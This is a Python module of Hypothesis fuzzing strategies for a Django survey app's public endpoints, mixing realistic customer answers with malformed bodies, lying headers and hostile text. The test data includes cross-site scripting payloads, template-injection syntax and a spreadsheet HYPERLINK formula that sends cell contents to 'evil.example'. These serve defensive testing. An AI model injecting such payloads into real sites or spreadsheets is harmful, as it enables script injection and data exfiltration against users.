"""Hypothesis strategies for what anyone on the internet can send the public survey
endpoints: answers shaped like a real customer's (so some are accepted and stored)
mixed with junk of every kind, in bodies and headers that may lie about themselves.
"""

from __future__ import annotations

import io
import json
import uuid
from dataclasses import dataclass, field
from urllib.parse import urlencode

from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
from hypothesis import strategies as st

from feedback.answers import SCALES
from feedback.models import Question, QuestionKind

OWN_ORIGIN = "http://testserver"
ALLOWED_ORIGIN = "https://www.alices-cafe.example"

# Text a customer might type, and text meant to break something: markup, template
# syntax, NUL, right-to-left overrides, emoji, very long runs.
HOSTILE_TEXT = st.sampled_from(
    [
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "</textarea><svg onload=alert(1)>",
        "{{ request.user }}{% debug %}",
        '=HYPERLINK("http://evil.example/?"&A1)',
        "a\x00b",
        "\u202eevil\u202c",
        "👍🏽 café\r\n\tok",
        "x" * 10_001,
        "   ",
    ]
)
TEXT = st.one_of(st.text(max_size=300), HOSTILE_TEXT)
JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    TEXT,
)
JUNK_JSON = st.recursive(
    JSON_SCALARS,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=20), inner, max_size=4)
    ),
    max_leaves=12,
)


def valid_value(question: Question):
    """An answer its question takes (or a blank, which optional questions take)."""
    if question.kind in SCALES:
        low, high = SCALES[question.kind]
        number = st.integers(min_value=low, max_value=high)
        return st.one_of(number, number.map(str), number.map(lambda n: f" {n} "))
    if question.kind == QuestionKind.SINGLE_CHOICE:
        return st.sampled_from(question.choices)
    if question.kind == QuestionKind.MULTIPLE_CHOICE:
        return st.lists(st.sampled_from(question.choices), max_size=len(question.choices) + 1)
    return TEXT


def answer_value(question: Question):
    """Mostly answers the question takes; sometimes anything at all."""
    return st.one_of(valid_value(question), valid_value(question), st.just(""), JUNK_JSON)


def applies(question: Question, given: dict[int, object]) -> bool:
    """Whether a follow-up's condition holds for the values given so far."""
    earlier = given.get(question.show_if_question_id)
    if earlier is None:
        return False
    if question.show_if_choices:
        chosen = earlier if isinstance(earlier, list) else [earlier]
        return any(choice in question.show_if_choices for choice in chosen)
    number = int(str(earlier).strip())
    low = question.show_if_min if question.show_if_min is not None else number
    high = question.show_if_max if question.show_if_max is not None else number
    return low <= number <= high


@st.composite
def plausible_answers(draw, questions: list[Question]) -> dict[str, object]:
    """What a customer's browser sends: every question answered the way it takes (the
    optional ones now and then skipped), follow-ups only when their condition holds."""
    given: dict[int, object] = {}
    for question in questions:
        if question.show_if_question_id is not None and not applies(question, given):
            continue
        if not question.required and draw(st.booleans()):
            continue
        given[question.pk] = draw(valid_value(question))
    by_pk = {question.pk: str(question.uuid) for question in questions}
    return {by_pk[pk]: value for pk, value in given.items()}


def random_answers(questions: list[Question]):
    """Each question answered anyhow or left out, and at times keys that name no question."""
    keyed = {str(q.uuid): answer_value(q) for q in questions}
    made_up = st.dictionaries(
        st.one_of(st.uuids().map(str), st.text(max_size=40)), JUNK_JSON, min_size=1, max_size=2
    )
    strangers = st.one_of(st.just({}), st.just({}), st.just({}), made_up)
    return st.tuples(st.fixed_dictionaries({}, optional=keyed), strangers).map(
        lambda pair: {**pair[0], **pair[1]}
    )


def answers(questions: list[Question]):
    """Mostly a plausible customer's answers, sometimes anything."""
    plausible = plausible_answers(questions)
    return st.one_of(plausible, plausible, plausible, random_answers(questions))


def mostly(valid, junk=None):
    """`valid` three times in four, else junk (any JSON scalar unless given)."""
    return st.one_of(valid, valid, valid, JSON_SCALARS if junk is None else junk)


EMAILS = st.one_of(
    st.just(""),
    st.emails().map(str),
    st.just('"<svg/onload=alert(1)>"@example.com'),
    TEXT,
)


def envelope(questions: list[Question], location_uuid: str):
    """A JSON body as the public API documents it, each field mostly right."""
    return st.fixed_dictionaries(
        {"answers": mostly(answers(questions), JUNK_JSON)},
        optional={
            "contact_requested": mostly(st.booleans()),
            "contact_email": mostly(EMAILS),
            "channel": mostly(st.sampled_from(["api", "qr", "embed", "email", "link"])),
            "location": mostly(st.sampled_from([location_uuid, None, str(uuid.uuid4())])),
            "extra": JUNK_JSON,
        },
    )


# Raw bodies no JSON encoder would write: lone surrogates, deep nesting, truncation,
# invalid UTF-8, other encodings. (Bodies over the 64 KB limit: a Content-Length that
# says so, see `lies`; a real one is in tests/feedback/test_public_api.py.)
RAW_BODIES = st.one_of(
    st.binary(max_size=200),
    st.sampled_from(
        [
            b'{"answers": {"\\ud800": 1}}',
            b'{"answers": {}, "channel": "\\udfff"}',
            b"[" * 5000,
            b'{"answers":' * 3000,
            b'{"answers": {',
            b"\xff\xfe{\x00}\x00",
            '{"answers": {"é": "ü"}}'.encode("latin-1"),
            b'{"answers": {"a": NaN, "b": Infinity}}',
            b'{"answers": {"a": 1e999999}}',
        ]
    ),
)

CONTENT_TYPES = st.sampled_from(
    [
        "application/json",
        "application/json; charset=utf-8",
        "application/json; charset=latin-1",
        "application/json; charset=no-such-charset",
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data",
        f"multipart/form-data; boundary={BOUNDARY}",
        "application/xml",
        "",
        "\u00e9/\u00e9",
    ]
)
ACCEPT_LANGUAGES = st.one_of(
    st.none(),
    st.sampled_from(["es", "en-GB,en;q=0.8", "xx-YY", "*", "es;q=abc", "de-DE-x-" + "a" * 300]),
    st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=255), max_size=60),
)
ORIGINS = st.one_of(
    st.none(),
    st.none(),
    st.sampled_from(
        [OWN_ORIGIN, ALLOWED_ORIGIN, "https://evil.example", "null", "http://testserver:1"]
    ),
)


# Header values as a WSGI server hands them over: latin-1 text.
HEADER_TEXT = st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=255), max_size=200)


@dataclass(frozen=True)
class Lies:
    """Headers that need not match the body (None: the truth, or no such header)."""

    content_type: str | None
    content_length: str | None
    accept_language: str | None
    origin: str | None
    extra: dict = field(default_factory=dict)

    def meta(self, body: bytes, true_type: str) -> dict:
        meta = {
            "CONTENT_TYPE": true_type if self.content_type is None else self.content_type,
            "CONTENT_LENGTH": str(len(body))
            if self.content_length is None
            else self.content_length,
            **self.extra,
        }
        if self.accept_language is not None:
            meta["HTTP_ACCEPT_LANGUAGE"] = self.accept_language
        if self.origin is not None:
            meta["HTTP_ORIGIN"] = self.origin
        return meta


def lies(origins=ORIGINS):
    """Mostly true headers; now and then a wrong type or length, odd languages, origins
    and other headers."""
    extra = st.fixed_dictionaries(
        {},
        optional={
            "HTTP_ACCEPT": st.sampled_from(
                ["*/*", "application/json", "*/*;q=0.1", "text/html", "application/xml", "x/y;q=z"]
            ),
            "HTTP_USER_AGENT": HEADER_TEXT,
            "HTTP_X_FORWARDED_FOR": st.just("1.2.3.4, 5.6.7.8"),
            "HTTP_COOKIE": st.sampled_from(["csrftoken=x", "sessionid=" + "a" * 40, "=;=;"]),
        },
    )
    lengths = st.one_of(
        st.integers(min_value=0, max_value=200).map(str),
        st.sampled_from(["-1", "abc", "", "99999999999999999999", str(10**6)]),
    )
    truth = [st.none()] * 5
    return st.builds(
        Lies,
        content_type=st.one_of(*truth, CONTENT_TYPES),
        content_length=st.one_of(*truth, lengths),
        accept_language=ACCEPT_LANGUAGES,
        origin=origins,
        extra=st.one_of(st.just({}), extra),
    )


def send(client, method: str, path: str, body: bytes, true_type: str, told: Lies):
    """Send `body` with the headers `told`; the body is a plain stream that simply ends,
    as a server's is, whatever Content-Length claims."""
    meta = told.meta(body, true_type)
    content_type = meta.pop("CONTENT_TYPE")
    return client.generic(
        method, path, data=b"", content_type=content_type,
        **{**meta, "CONTENT_TYPE": content_type, "wsgi.input": io.BytesIO(body)},
    )  # fmt: skip


def json_bodies(questions: list[Question], location_uuid: str):
    """(body, true content type): mostly the documented shape, sometimes any JSON, raw
    bytes now and then."""
    encoded = envelope(questions, location_uuid).map(lambda body: json.dumps(body).encode())
    anything = JUNK_JSON.map(lambda value: json.dumps(value).encode())
    bodies = st.one_of(*[encoded] * 6, anything, RAW_BODIES)
    return bodies.map(lambda body: (body, "application/json"))


def customer_json(questions: list[Question], location_uuid: str):
    """(body, content type) as a real widget or app sends it: plausible answers, maybe
    a wish to be contacted with a real address, maybe the location."""
    contact = st.one_of(
        st.just({}),
        st.builds(lambda email: {"contact_requested": True, "contact_email": email}, st.emails()),
    )
    place = st.sampled_from([{}, {"location": location_uuid}])
    body = st.builds(
        lambda given, wish, where: {"answers": given, **wish, **where},
        plausible_answers(questions), contact, place,
    )  # fmt: skip
    return body.map(lambda value: (json.dumps(value).encode(), "application/json"))


# Headers a browser or app really sends, from a page allowed to send them.
HONEST = st.builds(
    lambda origin, language: Lies(None, None, language, origin),
    st.sampled_from([None, OWN_ORIGIN, ALLOWED_ORIGIN]),
    st.sampled_from([None, "en", "es", "en-GB,en;q=0.8"]),
)


# --- The HTML form -------------------------------------------------------------------


def as_form_values(value: object) -> list[str]:
    return [str(item) for item in value] if isinstance(value, list) else [str(value)]


def form_questions(questions: list[Question]):
    """The question fields as (name, value) pairs: mostly a customer's, sometimes junk."""
    form_text = TEXT.filter(lambda t: "\x00" not in t)
    plausible = plausible_answers(questions).map(
        lambda given: [
            (f"q-{key}", v) for key, value in given.items() for v in as_form_values(value)
        ]
    )
    junk = st.lists(
        st.tuples(st.sampled_from([f"q-{q.uuid}" for q in questions]), form_text), max_size=6
    )
    return st.one_of(plausible, plausible, plausible, junk)


def form_fields(questions: list[Question], started: str, stale: str):
    """Form fields as (name, value) pairs: the questions, the contact fields, the signed
    start time (fresh, stale, forged or missing), the honeypot now and then, and junk."""
    singles = {
        "started": st.sampled_from([started, started, started, started, stale, "forged"]),
        "contact_requested": st.sampled_from(["on", "off", ""]),
        "contact_email": EMAILS.filter(lambda t: "\x00" not in t),
        "website": st.sampled_from(["", "", "", "http://spam.example"]),
        f"q-{uuid.uuid4()}": TEXT.filter(lambda t: "\x00" not in t),
        "csrfmiddlewaretoken": st.just("x"),
    }
    single = st.fixed_dictionaries({"started": singles.pop("started")}, optional=singles)
    return st.tuples(form_questions(questions), single).map(
        lambda pair: pair[0] + list(pair[1].items())
    )


def encode_form(pairs: list[tuple[str, str]], kind: str) -> tuple[bytes, str]:
    """The body and its true Content-Type, urlencoded or multipart."""
    if kind == "multipart":
        grouped: dict[str, list[str]] = {}
        for name, value in pairs:
            grouped.setdefault(name, []).append(value)
        return encode_multipart(BOUNDARY, grouped), MULTIPART_CONTENT
    return urlencode(pairs).encode(), "application/x-www-form-urlencoded"


def form_bodies(questions: list[Question], started: str, stale: str):
    """(body, true content type): mostly a real form, sometimes raw junk."""
    real = st.tuples(form_fields(questions, started, stale), st.sampled_from(["url", "multipart"]))
    encoded = real.map(lambda pair: encode_form(*pair))
    raw = RAW_BODIES.map(lambda body: (body, "application/x-www-form-urlencoded"))
    broken = st.just(
        (b"--" + BOUNDARY.encode() + b"\r\nContent-Disposition: form-da", MULTIPART_CONTENT)
    )
    return st.one_of(encoded, encoded, encoded, raw, broken)


def customer_form(questions: list[Question], started: str):
    """(body, content type) as a person's browser sends the form, filled in properly."""
    pairs = plausible_answers(questions).map(
        lambda given: (
            [(f"q-{key}", v) for key, value in given.items() for v in as_form_values(value)]
            + [("started", started)]
        )
    )
    return st.tuples(pairs, st.sampled_from(["url", "multipart"])).map(
        lambda pair: encode_form(*pair)
    )
